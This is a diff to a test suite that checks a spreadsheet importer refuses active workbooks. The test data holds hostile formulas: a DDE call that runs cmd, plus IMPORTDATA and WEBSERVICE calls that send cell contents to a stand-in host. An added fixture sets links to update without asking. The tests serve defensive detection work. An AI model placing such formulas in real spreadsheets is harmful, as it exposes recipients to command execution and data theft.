@@ -43,6 +43,7 @@ describe("a workbook that fetches, sends or runs something when it is opened is 
     ["DDE", "cmd|'/C calc'!A0"],
     ["DDE", 'DDE("soffice","a.ods","A1")'],
     ["IMPORTDATA", 'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""https://x.example/?""&A2)"),"x")'],
+    ["WEBSERVICE", '__xludf.DUMMYFUNCTION("A1&""")&WEBSERVICE("https://x.example")'],
   ])("%s in the formula of a cell: %s", async (name, formula) => {
     const problem = await refusal(read(payouts(formula)));
     expect(problem).toMatchObject({ code: "WORKBOOK_IS_ACTIVE", sheet: "Payouts", cell: "C2" });
@@ -92,6 +93,10 @@ describe("a workbook that fetches, sends or runs something when it is opened is 
     [
       "an OLE link",
       { name: "xl/externalLinks/externalLink1.xml", data: "<externalLink><oleLink/></externalLink>" },
+    ],
+    [
+      "links that are updated without asking",
+      { name: "xl/calm.xml", data: '<workbook><workbookPr updateLinks="always"/></workbook>' },
     ],
     [
       "a data connection refreshed on opening",
